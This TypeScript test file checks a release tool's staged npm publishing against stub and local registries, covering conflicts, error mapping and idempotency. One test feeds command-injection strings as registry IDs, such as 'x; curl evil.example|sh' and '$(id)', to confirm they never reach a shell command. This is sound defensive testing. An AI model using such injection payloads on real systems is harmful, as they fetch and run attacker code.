/** Staged publishing, with an npm that keeps what is staged. */
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import type { Npm, NpmFault } from "../../generator/npm/npm.js";
import { pack, type Tarball } from "../../generator/release/registry.js";
import { stageTarball, stagingFault } from "../../generator/release/stage-tarball.js";
import { makeTemporaryFolder, put } from "../output/workspace.js";
import { loopback } from "../runtime/loopback.js";
import { stagingNpm } from "./staging-npm.js";
import { environmentOf, npmOf } from "./verdaccio.js";

const spec = { name: "@test/shop", version: "1.0.0" };
const folder = makeTemporaryFolder();
afterAll(() => fs.rmSync(folder, { recursive: true, maxRetries: 3 }));

function tarballOf(text: string): Tarball {
  put(folder, { "shop.tgz": text });
  return {
    ...{ file: join(folder, "shop.tgz"), bytes: Buffer.from(text), integrity: "" },
    ...{ packedSize: 1, unpackedSize: 1, files: 1 },
  };
}

const failing = (fault: NpmFault): Npm => ({
  run: async () => ({ isDone: false, output: {}, fault }),
});

test("a package is staged once, also where the response was lost, and by npm's own command", async () => {
  for (const loses of [false, true]) {
    const { npm, sent } = stagingNpm({ spec, loses });
    const publication = { tag: "next", access: "public" };
    expect(await stageTarball(npm, tarballOf("one"), spec, publication)).toEqual([]);
    expect(await stageTarball(npm, tarballOf("one"), spec, publication)).toEqual([]);
    expect(sent()).toEqual([
      `stage publish ${join(folder, "shop.tgz")} --ignore-scripts --tag next --access public`,
    ]);
  }
});

test("another package under the version of a staged one is a conflict", async () => {
  const { npm } = stagingNpm({ spec });
  await stageTarball(npm, tarballOf("one"), spec, { tag: "latest" });
  const [conflict] = await stageTarball(npm, tarballOf("two"), spec, { tag: "latest" });
  expect(conflict).toMatchObject({ code: "release-conflict" });
  expect(conflict?.hint).toContain("npm stage approve s-1");
});

test.each([
  "x; curl evil.example|sh",
  "$(id)",
  "--registry=http://evil.example",
  "s 1",
  "",
  "a\nb",
])("the id %j of a lying registry is in no command", async (id) => {
  const list = [{ id, packageName: spec.name, version: spec.version, shasum: "0" }];
  const npm: Npm = { run: async () => ({ isDone: true, output: list }) };
  const [conflict] = await stageTarball(npm, tarballOf("one"), spec, { tag: "latest" });
  expect(conflict?.hint).toBe(
    "Approve it with `npm stage approve <id>`; or reject it with `npm stage reject <id>`, and release again.",
  );
});

test.each(["EUNKNOWNCOMMAND", ""])("an npm without the command is too old (%j)", async (code) => {
  const fault = await stagingFault(failing({ code, message: "" }), spec.name);
  expect(fault).toMatchObject({ code: "npm-too-old", severity: "error" });
});

test("a registry that refuses, fails, or has no staging is told apart", async () => {
  const codeOf = async (code: string) =>
    (await stagingFault(failing({ code, message: "No." }), spec.name))?.code;
  expect(await codeOf("E401")).toBe("registry-refused");
  expect(await codeOf("E500")).toBe("registry-failed");
  const lacking = await stagingFault(failing({ code: "E404", message: "No." }), spec.name);
  expect(lacking?.hint).toBe("Release without --stage, or to a registry with staged publishing.");
  const odd: Npm = { run: async () => ({ isDone: true, output: "<html>" }) };
  expect((await stagingFault(odd, spec.name))?.code).toBe("registry-failed");
  expect(await stagingFault(stagingNpm({ spec }).npm, spec.name)).toBeUndefined();
});

test("npm itself stages at a registry, and lists what is staged", async () => {
  put(join(folder, "shop"), { "package.json": JSON.stringify(spec) });
  const items: object[] = [];
  const sent: string[] = [];
  const registry = await loopback((response, { method, url }) => {
    response.setHeader("content-type", "application/json");
    if (method === "GET" && url.startsWith("/-/stage"))
      return void response.end(JSON.stringify({ items, total: items.length }));
    if (method === "GET") return void response.writeHead(404).end('{"error":"not found"}');
    sent.push(`${method} ${url}`);
    items.push({ id: "s-1", packageName: spec.name, version: spec.version, shasum });
    return void response.writeHead(201).end('{"stageId":"s-1"}');
  });
  const npm = npmOf(environmentOf(folder, `${registry.url}/`, "a long token"));
  const { value } = await pack(npm, join(folder, "shop"), folder);
  const tarball = value ?? expect.fail("npm packs nothing.");
  const shasum = createHash("sha1").update(tarball.bytes).digest("hex");
  for (const _run of [1, 2])
    expect(await stageTarball(npm, tarball, spec, { tag: "latest" })).toEqual([]);
  expect(sent).toHaveLength(1);
  expect(sent[0]).toContain("/-/stage");
});
